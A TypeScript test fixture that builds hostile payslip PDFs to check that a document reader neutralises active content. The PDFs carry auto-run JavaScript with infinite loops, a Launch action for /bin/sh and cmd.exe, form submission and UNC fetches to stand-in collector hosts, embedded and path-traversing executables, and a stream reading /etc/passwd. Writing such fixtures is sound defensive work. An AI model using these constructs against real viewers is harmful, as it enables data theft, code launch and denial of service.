import { armedPdf } from '../armed-pdf.ts';
import { ascii } from '../hostile-files.ts';
import { filesOf, type HostileFile } from './hostile-file.ts';
import { payslipWith, pdfOfStreams, stream } from './pdf-parts.ts';

const script =
  '<</S/JavaScript/JS(process.exit\\(7\\); app.alert\\("read"\\); while \\(true\\) {})>>';
const onOpening =
  (action: string, more: readonly (string | Uint8Array)[] = []) =>
  () =>
    payslipWith({ catalogue: `/OpenAction<<${action}>>`, more });
const link = (action: string) => () =>
  payslipWith({ page: `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 500 300]/A<<${action}>>>>]` });
const xfa = ascii(
  '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">while (true) {}</script></event></subform></template></xdp:xdp>',
);
/** A form whose page its own program draws: what lies in the file asks to wait. */
const waiting = pdfOfStreams([
  '<</Type/Catalog/Pages 2 0 R/NeedsRendering true/AcroForm<</Fields[]/XFA 6 0 R>>>>',
  '<</Type/Pages/Count 1/Kids[3 0 R]>>',
  '<</Type/Page/Parent 2 0 R/MediaBox[0 0 500 300]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
  stream(
    '',
    ascii(
      'BT /F1 12 Tf 20 260 Td (Please wait until the proper contents of this document are shown. Your viewer may not be able to.) Tj ET',
    ),
  ),
  '<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>',
  stream('', xfa),
]);

/**
 * PDFs that would do something when they are opened. Each but one is a payslip, and read like one
 * without.
 */
export const armedPdfs: HostileFile[] = filesOf({
  'a script when it opens': [onOpening(script.slice(2, -2)), 'read'],
  'a script for each page, when it is shown and printed': [
    () =>
      payslipWith({
        page: `/AA<</O${script}/C${script}>>`,
        catalogue: `/AA<</WP${script}/WC${script}>>`,
      }),
    'read',
  ],
  'scripts in its list of names': [
    () => payslipWith({ catalogue: '/Names<</JavaScript<</Names[(a) 6 0 R]>>>>', more: [script] }),
    'read',
  ],
  'a field that works something out by script': [
    () =>
      payslipWith({
        catalogue: '/AcroForm<</Fields[6 0 R]/CO[6 0 R]>>',
        page: '/Annots[6 0 R]',
        more: [
          `<</Type/Annot/Subtype/Widget/FT/Tx/T(net)/Rect[0 0 9 9]/AA<</C${script}/K${script}/F${script}>>>>`,
        ],
      }),
    'read',
  ],
  'a program that it starts': [
    onOpening('/S/Launch/F(/bin/sh)/Win<</F(cmd.exe)/P(/c calc)>>'),
    'read',
  ],
  'an address that it opens': [onOpening('/S/URI/URI(https://tracker.invalid/opened)'), 'read'],
  'a page that is one large link': [link('/S/URI/URI(javascript:alert\\(1\\))'), 'read'],
  'a form that it sends away': [
    link('/S/SubmitForm/F<</FS/URL/F(https://collector.invalid/)>>/Flags 4'),
    'read',
  ],
  'another file that it goes to, on the network': [
    onOpening('/S/GoToR/F<</FS/URL/F(\\\\\\\\collector.invalid\\\\share)>>/D[0/Fit]'),
    'read',
  ],
  'a program that is embedded': [
    () =>
      payslipWith({
        catalogue: '/Names<</EmbeddedFiles<</Names[(run.exe) 6 0 R]>>>>',
        more: [
          '<</Type/Filespec/F(run.exe)/EF<</F 7 0 R>>>>',
          stream('/Type/EmbeddedFile', ascii('MZ')),
        ],
      }),
    'read',
  ],
  'a file that is attached beside its page': [
    () =>
      payslipWith({
        page: '/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 20 20]/FS 6 0 R>>]',
        more: [
          '<</Type/Filespec/F(../../run.exe)/EF<</F 7 0 R>>>>',
          stream('/Type/EmbeddedFile', ascii('MZ')),
        ],
      }),
    'read',
  ],
  'a form of XFA with a script': [
    () => payslipWith({ catalogue: '/AcroForm<</Fields[]/XFA 6 0 R>>', more: [stream('', xfa)] }),
    'read',
  ],
  'a form of XFA that asks to wait for its program': [() => waiting, 'file_unrendered'],
  'a film with a program of its own': [
    () =>
      payslipWith({
        page: '/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 100 100]/RichMediaContent<</Assets<</Names[(a.swf) 6 0 R]>>>>>>]',
        more: ['<</Type/Filespec/F(a.swf)>>'],
      }),
    'read',
  ],
  'a sound and a rendition': [
    onOpening('/S/Rendition/OP 0/JS(while \\(true\\) {})/R<</Type/Rendition/S/MR>>'),
    'read',
  ],
  'words from a file on the server': [
    () => payslipWith({ more: [stream('/F(/etc/passwd)/FFilter/ASCIIHexDecode', ascii(''))] }),
    'read',
  ],
  'everything at once': [armedPdf, 'read'],
});
